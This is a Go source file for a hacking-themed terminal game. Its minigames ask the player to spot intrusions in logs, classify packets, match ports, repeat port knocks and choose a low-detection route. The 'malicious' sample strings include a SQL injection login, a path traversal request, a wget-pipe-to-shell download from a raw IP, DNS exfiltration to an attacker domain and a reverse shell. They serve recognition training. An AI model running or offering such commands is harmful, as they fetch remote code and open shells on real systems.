package minigame

import (
	"fmt"
	"slices"
	"strconv"
	"strings"

	"xss/internal/console"
	"xss/internal/dice"
	"xss/internal/player"
)

var benignLogs = []string{
	`10.0.0.12 - - "GET /index.html HTTP/1.1" 200`,
	`sshd[812]: Accepted publickey for deploy from 10.0.0.5`,
	`cron[221]: (root) CMD (/usr/bin/backup.sh)`,
	`10.0.0.40 - - "POST /api/v1/orders HTTP/1.1" 201`,
	`kernel: eth0: link up, 1000Mbps, full-duplex`,
	`nginx: reloading configuration`,
	`10.0.0.18 - - "GET /static/app.js HTTP/1.1" 304`,
	`systemd: Started Daily apt upgrade and clean activities.`,
	`sshd[901]: Connection closed by 10.0.0.7 port 52211`,
}

var maliciousLogs = []string{
	`185.220.101.4 - - "GET /login.php?user=admin'-- HTTP/1.1" 200`,
	`sshd[1337]: Failed password for root from 45.155.205.2 (x48)`,
	`bash[4410]: wget http://45.9.148.3/x.sh -O- | sh`,
	`91.240.118.9 - - "GET /../../etc/passwd HTTP/1.1" 200`,
	`sudo: www-data : user NOT in sudoers ; COMMAND=/bin/bash`,
}

// LogTriage asks which log line is the intrusion.
type LogTriage struct{}

func (LogTriage) ID() string    { return "log_triage" }
func (LogTriage) Name() string  { return "Log Triage" }
func (LogTriage) Skill() string { return player.SkillScanning }

func (LogTriage) Difficulty(level int) int { return Difficulty(level) }

func (LogTriage) Play(r Round) (bool, error) {
	count := 3 + r.Difficulty
	lines := make([]string, 0, count)
	pool := append([]string(nil), benignLogs...)
	dice.Shuffle(r.Rng, pool)
	for i := 0; i < count-1; i++ {
		lines = append(lines, pool[i%len(pool)])
	}
	bad := dice.Between(r.Rng, 0, count-1)
	lines = slices.Insert(lines, bad, dice.Pick(r.Rng, maliciousLogs))

	r.IO.Println(console.Info, "Which entry is the intrusion?")
	for i, l := range lines {
		r.IO.Println(console.Normal, fmt.Sprintf("  %d. %s", i+1, l))
	}
	answer, err := ask(r, "Line: ")
	if err != nil {
		return false, err
	}
	if n, err := strconv.Atoi(answer); err == nil && n == bad+1 {
		return pass(r, "Intrusion flagged.")
	}
	return fail(r, fmt.Sprintf("Missed it. Line %d was the attacker.", bad+1))
}

type packet struct {
	summary   string
	malicious bool
}

var packets = []packet{
	{"TCP 10.0.0.4:51544 -> 93.184.216.34:443 [ACK] len=1380", false},
	{"UDP 10.0.0.9:5353 -> 224.0.0.251:5353 mDNS query", false},
	{"TCP 10.0.0.3:40022 -> 10.0.0.1:22 [PSH,ACK] len=96", false},
	{"DNS A? updates.vendor.com -> 10.0.0.53", false},
	{"ICMP echo request 10.0.0.7 -> 10.0.0.1", false},
	{"TCP 203.0.113.9 -> 10.0.0.0/24:1-1024 [SYN] x1000", true},
	{"DNS TXT? aGVsbG8gd29ybGQ.exfil.attacker.net", true},
	{"TCP 10.0.0.22:4444 -> 198.51.100.7:4444 reverse shell", true},
	{"HTTP POST /upload len=48MB to 198.51.100.12 at 03:12", true},
	{"SMB 10.0.0.15 -> 10.0.0.0/24 MS17-010 probe", true},
}

// PacketClassify asks the player to sort captured packets.
type PacketClassify struct{}

func (PacketClassify) ID() string    { return "packet_classify" }
func (PacketClassify) Name() string  { return "Packet Capture" }
func (PacketClassify) Skill() string { return player.SkillScanning }

func (PacketClassify) Difficulty(level int) int { return Difficulty(level) }

func (PacketClassify) Play(r Round) (bool, error) {
	count := 2 + r.Difficulty
	pool := append([]packet(nil), packets...)
	dice.Shuffle(r.Rng, pool)
	allowed := 0
	if r.Difficulty <= 2 {
		allowed = 1
	}
	mistakes := 0
	r.IO.Println(console.Info, "Classify each packet: b = benign, m = malicious")
	for i := 0; i < count; i++ {
		p := pool[i%len(pool)]
		answer, err := ask(r, fmt.Sprintf("%s  [b/m]: ", p.summary))
		if err != nil {
			return false, err
		}
		if (answer == "m") != p.malicious || (answer != "m" && answer != "b") {
			mistakes++
		}
	}
	if mistakes <= allowed {
		return pass(r, fmt.Sprintf("Capture sorted with %d mistakes.", mistakes))
	}
	return fail(r, fmt.Sprintf("%d packets misread.", mistakes))
}

var ports = map[int]string{
	21: "ftp", 22: "ssh", 23: "telnet", 25: "smtp", 53: "dns", 80: "http", 110: "pop3",
	143: "imap", 443: "https", 445: "smb", 3306: "mysql", 3389: "rdp", 5432: "postgres", 6379: "redis",
}

var portList = []int{21, 22, 23, 25, 53, 80, 110, 143, 443, 445, 3306, 3389, 5432, 6379}

// PortMatch quizzes well known ports.
type PortMatch struct{}

func (PortMatch) ID() string    { return "port_match" }
func (PortMatch) Name() string  { return "Port Match" }
func (PortMatch) Skill() string { return player.SkillScanning }

func (PortMatch) Difficulty(level int) int { return gentler(level) }

func (PortMatch) Play(r Round) (bool, error) {
	questions := 1 + r.Difficulty/2
	pool := append([]int(nil), portList...)
	dice.Shuffle(r.Rng, pool)
	for i := 0; i < questions; i++ {
		port := pool[i]
		answer, err := ask(r, fmt.Sprintf("Service on port %d: ", port))
		if err != nil {
			return false, err
		}
		if answer != ports[port] {
			return fail(r, fmt.Sprintf("Port %d is %s.", port, ports[port]))
		}
	}
	return pass(r, "Services fingerprinted.")
}

// FirewallSequence is a port-knocking memory test.
type FirewallSequence struct{}

func (FirewallSequence) ID() string    { return "firewall_sequence" }
func (FirewallSequence) Name() string  { return "Port Knock" }
func (FirewallSequence) Skill() string { return player.SkillStealth }

func (FirewallSequence) Difficulty(level int) int { return Difficulty(level) }

// KnockMatches compares an entered sequence with the expected one.
func KnockMatches(expected []int, answer string) bool {
	fields := strings.FieldsFunc(answer, func(r rune) bool { return r == ',' || r == ' ' })
	if len(fields) != len(expected) {
		return false
	}
	for i, f := range fields {
		n, err := strconv.Atoi(f)
		if err != nil || n != expected[i] {
			return false
		}
	}
	return true
}

func (FirewallSequence) Play(r Round) (bool, error) {
	length := 2 + r.Difficulty
	seq := make([]int, length)
	shown := make([]string, length)
	for i := range seq {
		seq[i] = dice.Pick(r.Rng, portList)
		shown[i] = strconv.Itoa(seq[i])
	}
	reverse := r.Difficulty >= 4
	r.IO.Println(console.Info, "Knock sequence: "+strings.Join(shown, " "))
	prompt := "Repeat the knock: "
	expected := seq
	if reverse {
		prompt = "Repeat it in reverse: "
		expected = make([]int, length)
		for i, p := range seq {
			expected[length-1-i] = p
		}
	}
	answer, err := ask(r, prompt)
	if err != nil {
		return false, err
	}
	if KnockMatches(expected, answer) {
		return pass(r, "Port opened.")
	}
	return fail(r, "Wrong knock. The firewall logged you.")
}

var hopNames = []string{"tor-exit", "vps-frankfurt", "hacked-router", "university-proxy", "cafe-wifi", "cloud-relay", "botnet-node", "vpn-gateway"}

// PathFinder asks for the least detectable route.
type PathFinder struct{}

func (PathFinder) ID() string    { return "path_finder" }
func (PathFinder) Name() string  { return "Route Planner" }
func (PathFinder) Skill() string { return player.SkillStealth }

func (PathFinder) Difficulty(level int) int { return Difficulty(level) }

type route struct {
	hops  []string
	risks []int
	total int
}

func (PathFinder) Play(r Round) (bool, error) {
	count := 3 + (r.Difficulty-1)/2
	routes := make([]route, count)
	for i := range routes {
		hops := dice.Between(r.Rng, 2, 4)
		for h := 0; h < hops; h++ {
			risk := dice.Between(r.Rng, 5, 40)
			routes[i].hops = append(routes[i].hops, dice.Pick(r.Rng, hopNames))
			routes[i].risks = append(routes[i].risks, risk)
			routes[i].total += risk
		}
	}
	best := 0
	for i := 1; i < len(routes); i++ {
		if routes[i].total < routes[best].total {
			best = i
		}
	}
	// ties go to the first route; nudge the others so the answer is unique
	for i := range routes {
		if i != best && routes[i].total == routes[best].total {
			routes[i].risks[len(routes[i].risks)-1]++
			routes[i].total++
		}
	}

	r.IO.Println(console.Info, "Pick the route with the lowest total detection risk:")
	for i, rt := range routes {
		parts := make([]string, len(rt.hops))
		for h := range rt.hops {
			parts[h] = fmt.Sprintf("%s(%d%%)", rt.hops[h], rt.risks[h])
		}
		r.IO.Println(console.Normal, fmt.Sprintf("  %d. %s", i+1, strings.Join(parts, " -> ")))
	}
	answer, err := ask(r, "Route: ")
	if err != nil {
		return false, err
	}
	if n, err := strconv.Atoi(answer); err == nil && n == best+1 {
		return pass(r, "Clean route. Nobody saw you.")
	}
	return fail(r, fmt.Sprintf("Route %d was quieter.", best+1))
}
